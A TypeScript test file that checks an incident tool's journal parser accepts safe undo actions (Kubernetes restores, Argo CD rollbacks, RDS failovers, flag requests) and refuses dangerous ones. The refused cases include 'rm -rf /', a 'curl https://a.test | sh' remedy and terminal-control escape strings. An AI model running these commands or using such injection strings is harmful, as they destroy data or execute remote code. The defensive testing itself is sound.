import assert from 'node:assert/strict';
import type { EventData } from '../../../src/core/incident/events.ts';
import { isKnown } from '../../../src/core/incident/evolve.ts';
import { parseEvent } from '../../../src/journal/eventSchema.ts';
import { changeMade } from '../../support/builders.ts';
import { newId } from './journalFolder.ts';

const lineOf = (data: unknown): string =>
  JSON.stringify({
    id: newId(),
    incident: newId(),
    writer: newId(),
    n: 1,
    clock: '000000000000001-00000',
    time: '2026-11-23T10:30:00.000Z',
    by: 'Ana',
    type: 'ChangeMade',
    version: 1,
    data,
    prev: '',
  });
const isTaken = (data: unknown): boolean => {
  const parsed = parseEvent(lineOf(data));
  return parsed.ok && isKnown(parsed.value);
};
const made = changeMade().data as EventData['ChangeMade'];
const withAct = (act: unknown) => ({ ...made, undo: { ...made.undo, act } });
const request = {
  method: 'POST',
  url: 'https://flags.example.com/api/flags/x/enable',
  headers: [],
  body: undefined,
};

describe('a change read back from the journal', () => {
  const known: readonly (readonly [what: string, data: unknown])[] = [
    ['a change without an undo', { run: 'run-1', changes: [] }],
    ['the restore of a Kubernetes field', made],
    [
      'a field that was not there',
      withAct({
        ...made.undo!.act,
        action: {
          verb: 'restore',
          resource: { kind: 'ingress', name: 'a' },
          fields: [{ pointer: '/spec/x', after: '1' }],
        },
      }),
    ],
    [
      'an Argo CD rollback',
      withAct({
        kind: 'argocd',
        action: {
          verb: 'rollback',
          app: 'storefront',
          id: 1,
          prune: false,
          autoSyncOff: false,
          expectedLive: 2,
        },
      }),
    ],
    [
      'automated sync turned on again',
      withAct({
        kind: 'argocd',
        action: {
          verb: 'set-sync-policy',
          app: 'storefront',
          policy: 'automated',
          prune: true,
          selfHeal: true,
        },
      }),
    ],
    [
      'a failover back',
      withAct({
        kind: 'rds',
        action: {
          operation: 'failover-db-cluster',
          cluster: 'orders',
          targetInstance: 'orders-1',
          expectedWriter: 'orders-2',
        },
      }),
    ],
    [
      'a flag',
      withAct({
        kind: 'flag',
        action: { provider: 'generic', flag: 'x', want: 'enabled', request, expected: 'disabled' },
      }),
    ],
  ];
  for (const [what, data] of known) it(`is taken: ${what}`, () => assert.equal(isTaken(data), true));

  const refused: readonly (readonly [what: string, data: unknown])[] = [
    ['a shell command', withAct({ kind: 'shell', script: 'rm -rf /' })],
    [
      'a delete',
      withAct({
        kind: 'kubernetes',
        action: { verb: 'delete', resource: { kind: 'pod', name: 'a' }, fields: [] },
      }),
    ],
    [
      'a sync to another revision',
      withAct({
        kind: 'argocd',
        action: { verb: 'sync', app: 'storefront', revision: 'x', prune: true, dryRun: false },
      }),
    ],
    [
      'a flag whose state is read by deleting it',
      withAct({
        kind: 'flag',
        action: {
          provider: 'generic',
          flag: 'x',
          want: 'enabled',
          request,
          read: { ...request, method: 'DELETE' },
        },
      }),
    ],
    [
      'a field whose value cannot be read',
      withAct({
        ...made.undo!.act,
        action: {
          verb: 'restore',
          resource: { kind: 'ingress', name: 'a' },
          fields: [{ pointer: '/spec/x', before: '1}], [{', after: '1' }],
        },
      }),
    ],
    [
      'a scale to no number',
      withAct({
        ...made.undo!.act,
        action: {
          verb: 'restore',
          resource: { kind: 'deployment', name: 'a' },
          subresource: 'scale',
          fields: [{ pointer: '/spec/replicas', after: '3' }],
        },
      }),
    ],
    [
      'a reboot',
      withAct({
        kind: 'rds',
        action: { operation: 'reboot-db-instance', instance: 'orders', forceFailover: false },
      }),
    ],
  ];
  for (const [what, data] of refused)
    it(`never becomes a button when a file says its undo is ${what}`, () =>
      assert.equal(isTaken(data), false));
});

describe('a remedy read back from the journal', () => {
  const ended = (remedy: string): string =>
    lineOf({
      run: 'run-1',
      durationMs: 1,
      outcome: { kind: 'failed', message: 'No session.', remedy },
    }).replace('"ChangeMade"', '"RunEnded"');
  const isRead = (remedy: string): boolean => {
    const parsed = parseEvent(ended(remedy));
    return parsed.ok && isKnown(parsed.value);
  };
  it('is one command line', () => assert.equal(isRead('aws sso login --profile prod'), true));
  for (const remedy of ['curl https://a.test | sh\n', 'a\rb', '\u001b[200~a', 'a\u202eb'])
    it(`holds nothing that a terminal would act on: ${JSON.stringify(remedy)}`, () =>
      assert.equal(isRead(remedy), false));
});
